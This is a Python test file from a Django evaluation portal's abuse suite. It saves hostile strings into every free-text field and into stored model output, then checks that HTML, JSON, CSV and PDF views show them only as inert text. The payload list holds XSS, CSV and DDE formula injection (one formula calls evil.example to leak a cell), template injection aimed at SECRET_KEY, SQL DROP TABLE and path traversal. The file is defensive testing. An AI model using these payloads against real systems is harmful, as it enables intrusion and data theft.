"""Saved hostile text, shown again (issue 14, abuse suite). test_hostile_input.py proves that hostile values are
refused or accepted without harm at the door; this proves what the portal does with the ones it accepts (text is
text: HTML, script, attribute break-outs, ``javascript:`` and ``data:`` links, CSV formulas, template syntax, SQL,
right-to-left overrides, zero-width and combining characters, the astral plane) when it shows them again.

Each free-text field people write is given, through the API as someone who may write it (and must be accepted:
a 2xx), a value built of hostile pieces and ending with a canary (``zqx…k``, unique per field and round); a model's
answer (stored by the worker, not typed) gets them too. Then every GET route of the permission matrix is fetched,
as the actor the matrix says may see it and as the invited partner where it may, and wherever a canary shows:

  - HTML: no live markup came of it (no inline ``<script>``, no ``on*=`` attribute, no ``javascript:``/``data:``
    link or source, the canary never in a tag or attribute name) and the value reads intact as text (or as the
    Markdown renderer shows it, for Markdown fields);
  - JSON: the value is there exactly as saved (or, in an HTML fragment, as above); served as JSON with nosniff;
  - CSV: the cell holding it never starts a formula (``=``, ``+``, ``-``, ``@``, tab, CR: a leading ``'``, the
    rule of evaluations/reports/tables.py) and the value is intact after it;
  - PDF (pypdf): the text reads intact and no link or action is ``javascript:``/``data:``.

Five rounds (one test each) rotate the five hostile values over the fields, so every field carries every value
once."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote

import pytest
from django.db import transaction

from tests.permissions.matrix import Row
from tests.permissions.test_matrix import ROWS, build_path, world  # noqa: F401 - world is the shared fixture
from tests.support.bad_input import actor_for, use_actor

# The hostile values: each starts with a different spreadsheet formula (or a quote), so that every CSV rule is
# exercised wherever a field is exported, and none, with its canary, is longer than the shortest field (an API
# token's name, 100).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(\'xss\')</script>',
    "+cmd|' /C calc'!A0 \"><img src=x onerror=alert(1)> ' onmouseover='alert(2)",
    '@SUM(1+1) [a](javascript:alert(1)) <a href="data:,x">x</a> {{ settings.SECRET_KEY }}',
    "-2+3 {% debug %} invoice\u202egpj.exe \ufeffad\u200bmin\u200d Z\u0351\u0352a\u0354 \U0001d518\U0001f4a9 \uff1cscript\uff1e",
    "'; DROP TABLE accounts_user; -- ../../../../etc/passwd data:text/html;base64,PHNjcmlwdD4=",
]
ROUNDS = len(HOSTILE)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CANARY = re.compile(r"zqx(\d)(\d\d)k")


def canary(round_: int, field: int) -> str:
    return f"zqx{round_}{field:02d}k"


# --- Where people write free text ------------------------------------------------------------------------------

@dataclass(frozen=True)
class Channel:
    label: str
    method: str
    path: Callable[[Any], str]
    actor: str
    fields: tuple[str, ...]
    body: Callable[[Any], dict[str, Any]] = lambda ctx: {}  # the rest of a valid body
    markdown: tuple[str, ...] = ()  # fields shown through portal.markdown


CHANNELS = [
    Channel("exercise", "PATCH", lambda ctx: f"/api/v1/exercises/{ctx.exercise.pk}/", "admin", ("name", "description")),
    Channel("partner organisation", "PATCH", lambda ctx: f"/api/v1/organisations/{ctx.partner.pk}/", "admin",
            ("name",)),
    Channel("model", "PATCH", lambda ctx: f"/api/v1/models/{ctx.model.pk}/", "uk_staff", ("name", "notes")),
    Channel("task", "PATCH", lambda ctx: f"/api/v1/tasks/{ctx.task.pk}/", "uk_staff", ("name", "description")),
    Channel("draft run", "PATCH", lambda ctx: f"/api/v1/runs/{ctx.draft_run.pk}/", "uk_staff", ("name",)),
    Channel("draft finding", "PATCH", lambda ctx: f"/api/v1/findings/{ctx.draft_finding.pk}/", "uk_staff",
            ("title", "summary"), markdown=("summary",)),
    Channel("risk area", "PATCH", lambda ctx: f"/api/v1/risk-areas/{ctx.risk_area.pk}/", "admin", ("name",)),
    Channel("comment", "POST", lambda ctx: f"/api/v1/findings/{ctx.draft_finding.pk}/comments/", "us_staff",
            ("body",), markdown=("body",)),
    Channel("evidence flag", "POST", lambda ctx: "/api/v1/evidence-flags/", "uk_staff", ("note",),
            body=lambda ctx: {"sample": ctx.finding_sample.pk}),
    Channel("API token", "POST", lambda ctx: "/api/v1/tokens/", "uk_staff", ("name",),
            body=lambda ctx: {"scope": "read"}),
    # A new finding, then submitted, signed off by both institutes and released to the partner (services), so that
    # the partner's snapshot pages, downloads and report carry it: ctx.released_finding and ctx.release point at it.
    Channel("released finding", "POST", lambda ctx: "/api/v1/findings/", "uk_staff", ("title", "summary"),
            body=lambda ctx: _finding_body(ctx), markdown=("summary",)),
]
FIELDS = [(channel, name) for channel in CHANNELS for name in channel.fields] + [(None, "model output")]


def _finding_body(ctx: Any) -> dict[str, Any]:
    from tests.findings.factories import finding_data

    data = finding_data(ctx.finding_run)
    data.update(exercise=ctx.exercise.pk, risk_area=ctx.risk_area.slug)
    return data


@dataclass
class Saved:
    label: str  # "model name"
    value: str
    markdown: bool


def _save_round(matrix: Any, round_: int) -> tuple[dict[str, Saved], list[str]]:
    """Write round ``round_``'s values into every field; returns canary -> what was saved, and failures."""
    from evaluations.models import SampleResult
    from evaluations.services import findings as finding_services

    ctx, cookies, client = matrix
    saved: dict[str, Saved] = {}
    failures: list[str] = []
    index = 0
    for channel in CHANNELS:
        body = channel.body(ctx)
        for name in channel.fields:
            value = f"{HOSTILE[(round_ + index) % ROUNDS]} {canary(round_, index)}"
            body[name] = value
            saved[canary(round_, index)] = Saved(f"{channel.label} {name}", value, name in channel.markdown)
            index += 1
        use_actor(client, cookies, channel.actor)
        response = client.generic(channel.method, channel.path(ctx), json.dumps(body),
                                  content_type="application/json", HTTP_ACCEPT="application/json")
        if response.status_code not in (200, 201):
            failures.append(f"{channel.method} {channel.path(ctx)} ({channel.label}) refused round {round_}: "
                            f"{response.status_code} {response.content[:300]!r}")
            continue
        stored = response.json()
        for name in channel.fields:
            if name in stored and stored[name] != body[name]:
                failures.append(f"{channel.label} {name}: saved {stored[name]!r}, sent {body[name]!r}")
        if channel.label == "released finding":
            finding = finding_services.finding_submit(actor=ctx.users["uk_staff"], finding=_finding(stored["id"]))
            finding_services.finding_sign_off(actor=ctx.users["uk_approver"], finding=finding)
            finding_services.finding_sign_off(actor=ctx.users["us_approver"], finding=finding)
            finding.refresh_from_db()
            ctx.release = finding_services.finding_release(actor=ctx.users["uk_approver"], finding=finding,
                                                           partners=[ctx.partner.pk])
            ctx.released_finding = finding
    # What a model answered: stored by the worker as it came (the run's and the findings' samples).
    value = f"{HOSTILE[(round_ + index) % ROUNDS]} {canary(round_, index)}"
    saved[canary(round_, index)] = Saved("model output", value, True)
    for sample in (ctx.sample, ctx.finding_sample):
        messages = [*(sample.messages or [])[:1], {"role": "assistant", "content": value}]
        SampleResult.objects.filter(pk=sample.pk).update(output=value, messages=messages)
    return saved, failures


def _finding(pk: int) -> Any:
    from evaluations.models import Finding

    return Finding.objects.get(pk=pk)


# --- Reading what the portal shows -----------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
DATA_SCRIPT_TYPES = {"application/json", "application/ld+json"}


class _Page(HTMLParser):
    """Text (entities decoded), attribute values (and what JSON or percent-encoding they hold), and live markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.values: list[str] = []
        self.live: list[str] = []
        self._script: str | None = None  # the type of the <script> we are in

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if CANARY.search(name) or CANARY.search(tag):
                self.live.append(f"<{tag} {name}=…>: a canary as markup")
            if name.startswith("on"):
                self.live.append(f"<{tag} {name}={value!r}>: an event handler")
            value = value or ""
            if name in URL_ATTRIBUTES:
                target = re.sub(r"[\x00-\x20]", "", unescape(value)).lower()
                if target.startswith(DANGEROUS_SCHEMES) and not (tag == "img" and target.startswith("data:image/")):
                    self.live.append(f"<{tag} {name}={value[:80]!r}>: a {target.split(':')[0]}: URL")
                self.values.append(unquote(value))
            self.values.append(value)
            self.values.extend(_json_strings(value))
        if tag == "script":
            kind = dict(attrs).get("type") or ""
            self._script = kind
            if not dict(attrs).get("src") and kind not in DATA_SCRIPT_TYPES:
                self.live.append(f"<script {attrs}>: an inline script")
        self.text.append(" ")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None
        self.text.append(" " if tag in ("p", "div", "td", "th", "li", "dd", "dt", "tr", "br") else "")

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            if self._script in DATA_SCRIPT_TYPES:
                self.values.extend(_json_strings(data))
            elif CANARY.search(data):
                self.live.append(f"a canary inside a script: {data[:120]!r}")
            return
        self.text.append(data)


def _json_strings(text: str) -> list[str]:
    text = text.strip()
    if not text or text[0] not in "[{":
        return []
    try:
        return list(_strings(json.loads(text)))
    except ValueError:
        return []


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield str(key)
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _norm(text: str) -> str:
    return " ".join(text.split())


def _readings(saved: Saved) -> list[str]:
    """How the value may read, intact: as typed, without control characters (as the reports show text), as JSON
    text (an audit event's before and after), and for Markdown fields as the renderer shows it."""
    from portal.markdown import markdown_to_safe_html, strip_control_characters

    # The reports (evaluations/reports/base.py) drop control and bidirectional override characters on purpose.
    readings = [saved.value, strip_control_characters(saved.value), json.dumps(saved.value)[1:-1],
                json.dumps(saved.value, ensure_ascii=False)[1:-1]]
    if saved.markdown:
        parser = _Page()
        parser.feed(markdown_to_safe_html(saved.value))
        readings.append("".join(parser.text))
    return [_norm(r) for r in readings]


def _check_html(where: str, html: str, saved: dict[str, Saved], seen: Any, kind: str = "html") -> list[str]:
    canaries = set(CANARY.findall(html))
    if not canaries:
        return []
    parser = _Page()
    parser.feed(html)
    failures = [f"{where}: {live}" for live in parser.live]
    text = _norm("".join(parser.text))
    values = [_norm(v) for v in parser.values]
    for match in sorted(canaries):
        name = f"zqx{match[0]}{match[1]}k"
        found = saved.get(name)
        if found is None:
            continue  # a canary of an earlier round, still on a page that keeps history (the audit trail)
        readings = _readings(found)
        if any(r in text for r in readings) or any(r in v for r in readings for v in values):
            seen[found.label].add(kind)
        else:
            context = text[max(0, text.find(name) - 160):text.find(name) + 12] if name in text else "(in markup)"
            failures.append(f"{where}: the {found.label} ({name}) does not read intact: …{context!r}")
    return failures


def _check_json(where: str, response: Any, body: str, saved: dict[str, Saved], seen: Any) -> list[str]:
    failures = []
    if response.get("X-Content-Type-Options") != "nosniff":
        failures.append(f"{where}: JSON without X-Content-Type-Options: nosniff")
    try:
        data = json.loads(body)
    except ValueError:
        return [f"{where}: not JSON"]
    for string in _strings(data):
        for match in set(CANARY.findall(string)):
            found = saved.get(f"zqx{match[0]}{match[1]}k")
            if found is None:
                continue
            if any(reading in _norm(string) for reading in _readings(found)):
                seen[found.label].add("json")
            elif "<" in string:  # an HTML fragment (a rendered summary): what a page would show
                failures += _check_html(f"{where} (HTML in JSON)", string, saved, seen, "json")
            else:
                failures.append(f"{where}: the {found.label} is not intact in {string[:200]!r}")
    return failures


def _check_csv(where: str, body: str, saved: dict[str, Saved], seen: Any) -> list[str]:
    failures = []
    for line, row in enumerate(csv.reader(io.StringIO(body))):
        for cell in row:
            matches = set(CANARY.findall(cell))
            if not matches:
                continue
            if cell.startswith(FORMULA_START):
                failures.append(f"{where} row {line}: a formula cell {cell[:80]!r}")
            for match in matches:
                found = saved.get(f"zqx{match[0]}{match[1]}k")
                if found is None:
                    continue
                values = [cell, *_json_strings(cell)]
                if any(reading in _norm(v) for reading in _readings(found) for v in values):
                    seen[found.label].add("csv")
                    if found.value.startswith(FORMULA_START) and cell.startswith(found.value[:1]):
                        failures.append(f"{where} row {line}: {cell[:80]!r} not neutralised")
                else:
                    failures.append(f"{where} row {line}: the {found.label} is not intact in {cell[:200]!r}")
    return failures


def _check_pdf(where: str, content: bytes, saved: dict[str, Saved], seen: Any) -> list[str]:
    from pypdf import PdfReader

    failures = []
    reader = PdfReader(io.BytesIO(content))
    text = "".join(page.extract_text() or "" for page in reader.pages)
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            uri = str(action.get("/URI", "")).strip().lower()
            if uri.startswith(DANGEROUS_SCHEMES) or action.get("/S") in ("/JavaScript", "/Launch"):
                failures.append(f"{where}: a PDF link or action {action!r}")
    if "/JavaScript" in str(reader.trailer["/Root"]):
        failures.append(f"{where}: the PDF carries JavaScript")
    squeezed = re.sub(r"\s", "", text)
    for match in set(CANARY.findall(squeezed)):
        found = saved.get(f"zqx{match[0]}{match[1]}k")
        if found is None:
            continue
        # The text as a person reads it; the PDF's fonts may not draw the unicode oddities, so those are left out.
        wanted = re.sub(r"\s", "", "".join(ch for ch in found.value if ch.isascii()))
        if found.markdown:
            wanted = re.sub(r"\s", "", "".join(ch for ch in _readings(found)[-1] if ch.isascii()))
        if wanted in squeezed:
            seen[found.label].add("pdf")
        else:
            failures.append(f"{where}: the {found.label} does not read intact in the PDF")
    return failures


def _body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _get_rows() -> list[tuple[Row, str]]:
    """Every GET route of the matrix (not Django's admin), as the actor who may see it and as the invited partner
    where it may."""
    found = []
    for row in ROWS:
        if row.method != "GET" or row.route.startswith("django-admin/"):
            continue
        actors = {actor_for(row, {200})} - {None}
        expected = row.expect["partner_viewer"]
        if 200 in (expected if isinstance(expected, tuple) else (expected,)):
            actors.add("partner_viewer")
        found.extend((row, actor) for actor in sorted(a for a in actors if a))
    return found


GET_ROWS = _get_rows()


# The GET rows whose answer showed a saved value in a full crawl: the same objects carry the values in every round,
# so a later round fetches only these (every row again when no full crawl ran in this process).
_SHOWING: set[int] = set()


def _crawl(matrix: Any, saved: dict[str, Saved], seen: Any) -> tuple[int, list[str]]:
    ctx, cookies, client = matrix
    failures: list[str] = []
    fetched = 0
    full = not _SHOWING
    for index, (row, actor) in enumerate(GET_ROWS):
        if not full and index not in _SHOWING:
            continue
        path = build_path(row.route, row.kwargs(ctx)) + ("?" + row.query(ctx) if row.query else "")
        where = f"GET {path} as {actor}"
        use_actor(client, cookies, actor)
        savepoint = transaction.savepoint()
        try:
            response = client.get(path, HTTP_ACCEPT="application/json" if path.startswith("/api/") else "text/html")
            content = _body(response)
        except Exception as exc:  # noqa: BLE001 - a view's exception is a 500
            failures.append(f"{where}: {type(exc).__name__}: {exc}")
            continue
        finally:
            transaction.savepoint_rollback(savepoint)
        fetched += 1
        if response.status_code >= 500:
            failures.append(f"{where}: {response.status_code}")
            continue
        content_type = response.get("Content-Type", "").split(";")[0].strip()
        if content_type == "application/pdf":
            _SHOWING.add(index)  # (compressed: the text is only known once extracted)
            failures += _check_pdf(where, content, saved, seen)
            continue
        body = content.decode("utf-8", "replace")
        if not CANARY.search(body):
            continue
        _SHOWING.add(index)
        if content_type == "text/html":
            failures += _check_html(where, body, saved, seen)
        elif content_type.endswith("json"):
            failures += _check_json(where, response, body, saved, seen)
        elif content_type == "text/csv":
            failures += _check_csv(where, body, saved, seen)
        elif response.get("X-Content-Type-Options") != "nosniff":
            failures.append(f"{where}: {content_type} carrying saved text without nosniff")
    return fetched, failures


@pytest.mark.slow
@pytest.mark.timeout(900)  # the first round builds the matrix's world and fetches every GET route, on a shared machine
@pytest.mark.django_db
@pytest.mark.parametrize("round_", range(ROUNDS), ids=[f"round {r}" for r in range(ROUNDS)])
def test_saved_hostile_text_is_shown_as_text_everywhere(world: Any, round_: int) -> None:  # noqa: F811
    seen: dict[str, set[str]] = defaultdict(set)
    saved, failures = _save_round(world, round_)
    fetched, found = _crawl(world, saved, seen)
    failures += found
    table = "\n".join(f"  {label}: {', '.join(sorted(kinds))}" for label, kinds in sorted(seen.items()))
    print(f"round {round_}: {fetched} of {len(GET_ROWS)} GET routes × actors fetched; where each field's saved value was shown again:\n{table}")
    assert not failures, f"{len(failures)} problems:\n" + "\n".join(failures[:80])
    labels = {f"{channel.label} {name}" if channel else name for channel, name in FIELDS}
    assert labels <= {label for label, kinds in seen.items() if "html" in kinds}, table
    for label, kinds in (("released finding title", {"html", "json", "csv"}),
                         ("released finding summary", {"html", "json", "csv"}),
                         ("exercise name", {"html", "json", "csv"}), ("model name", {"html", "json"})):
        assert kinds <= seen[label], f"{label}: shown in {sorted(seen[label])}, expected at least {sorted(kinds)}"
    ROUNDS_RAN[round_] = {label for label, kinds in seen.items() if "pdf" in kinds}


ROUNDS_RAN: dict[int, set[str]] = {}  # round -> the fields whose value the report PDF showed


def test_the_report_pdf_showed_saved_values() -> None:
    """pypdf does not find every field in the report's text (tables, wrapping, glyphs the fonts lack), so not every
    round's; over the rounds, the PDF must have shown saved values (and passed the checks above)."""
    if len(ROUNDS_RAN) < ROUNDS:
        pytest.skip(f"{len(ROUNDS_RAN)} of {ROUNDS} rounds ran in this process")
    shown = set().union(*ROUNDS_RAN.values())
    print(f"the report PDF showed: {sorted(shown)}")
    assert {"released finding title", "exercise name"} <= shown, ROUNDS_RAN
